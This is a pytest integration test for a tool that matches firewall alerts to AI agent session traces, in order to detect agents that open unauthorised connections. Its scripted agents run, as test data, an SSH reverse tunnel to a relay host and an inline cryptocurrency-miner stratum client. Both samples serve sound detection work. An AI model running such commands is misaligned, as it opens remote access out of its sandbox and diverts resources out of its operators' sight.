"""A real run: episodes in network namespaces, a real firewall's log, and the command over both."""

from __future__ import annotations

import json
import os
import shutil
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from auditor.cli.app import run
from tests.correlate.lab import Lab, lab, plugins
from tests.correlate.outside_servers import POOL, RELAY

_IS_READY = os.geteuid() == 0 and plugins() is not None and all(map(shutil.which, ("ip", "nft", "ulogd", "ssh")))
_TUNNEL = (
    "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ExitOnForwardFailure=yes"
    f" -N -R 2222:localhost:22 ops@{RELAY}"
)
_MINER = f"""python3 - <<'EOF'
import json, socket
pool = socket.create_connection(("{POOL}", 3333), timeout=60)
said = pool.makefile("r")
def ask(number, method, *params):
    pool.sendall(json.dumps({{"id": number, "method": method, "params": params}}).encode() + b"\\n")
    return json.loads(said.readline())
assert ask(1, "mining.subscribe", "xmrig/6.21.0")["result"]
assert ask(2, "mining.authorize", "wallet.rig", "x")["result"] is True
assert json.loads(said.readline())["method"] == "mining.notify"
EOF"""
_PLAIN = ("ls -la", "uname -a", "echo building", "seq 1 1000 | tail -1", "date", "df -h .")


class Agent:
    """A scripted agent that writes its session as Claude Code does."""

    def __init__(self, made: Lab, sandbox: int, file: Path) -> None:
        self.made, self.sandbox, self.file, self.count = made, sandbox, file, 0
        self.slowest = 0.0

    def call(self, command: str, done: Path | None = None) -> None:
        """Make one tool call; one that does not end by itself ends when a file is there."""
        begun = time.monotonic()
        self.count += 1
        line = {
            "type": "assistant", "sessionId": f"episode-{self.sandbox}", "uuid": f"u{self.count}", "cwd": "/work",
            "timestamp": datetime.now(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "message": {"role": "assistant", "content": [
                {"type": "tool_use", "id": f"call-{self.sandbox}-{self.count}", "name": "Bash",
                 "input": {"command": command}}]},
        }  # fmt: skip
        with self.file.open("a") as out:
            out.write(json.dumps(line) + "\n")
        self.made.run(self.sandbox, command, done)
        self.slowest = max(self.slowest, time.monotonic() - begun)


@pytest.mark.slow
@pytest.mark.trial
@pytest.mark.timeout(600)
@pytest.mark.skipif(not _IS_READY, reason="needs root, nftables, ulogd2 with its JSON output, and an SSH client")
def test_a_real_firewall_finds_the_tunnel_and_the_miner(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Of four episodes, a tunnel that carries and a miner that gets its job are found, explained and confirmed."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    traces = tmp_path / "traces"
    traces.mkdir()
    with lab(tmp_path, 4) as made:
        agents = [Agent(made, number, traces / f"s{number}.jsonl") for number in range(1, 5)]
        for turn in range(6):
            for agent in agents:
                if (agent.sandbox, turn) == (2, 2):
                    agent.call(_TUNNEL, tmp_path / "tunnel.json")
                elif (agent.sandbox, turn) == (3, 4):
                    agent.call(_MINER)
                else:
                    agent.call(_PLAIN[turn])
            time.sleep(1)
        assert made.saw(RELAY, POOL)
        rows = [{"address": made.address(n), "trajectory": f"episode-{n}", "run": "lab"} for n in range(1, 5)]
    (tmp_path / "map.json").write_text(json.dumps(rows))
    log = made.log.read_text()
    assert '"oob.prefix"' in log
    through = json.loads((tmp_path / "tunnel.json").read_text())
    assert through == {"port": 2222, "said": "SSH-2.0-sandbox\r\n"}
    talk = [json.loads(line) for line in (tmp_path / "stratum.jsonl").read_text().splitlines()]
    assert [line["miner"]["method"] for line in talk if "miner" in line] == ["mining.subscribe", "mining.authorize"]
    assert talk[-1]["pool"]["method"] == "mining.notify"
    # No call took longer, and one that did not record its end is taken to have.
    longest = max(6.0, *(agent.slowest + 0.5 for agent in agents))
    code = run([
        "correlate", "--alerts", str(made.log), "--traces", str(traces), "--map", str(tmp_path / "map.json"),
        "--clock-error", "1", "--tail", "1", "--longest", str(longest), "--replay", "--out", str(tmp_path / "case"),
    ])  # fmt: skip
    captured = capsys.readouterr()
    shown = captured.out + captured.err
    assert code == 1, shown
    found = json.loads((tmp_path / "case" / "incidents.json").read_text())
    named = {incident["destination"]: incident for incident in found["incidents"]}
    assert named[f"{RELAY}:22"]["step"]["call_id"] == "call-2-3", shown
    assert named[f"{POOL}:3333"]["step"]["call_id"] == "call-3-5", shown
    assert all(incident["explained"] for incident in named.values()), shown
    assert all(incident["confirmed"] for incident in named.values()), shown
    assert run(["correlate", "--verify", str(tmp_path / "case")]) == 0
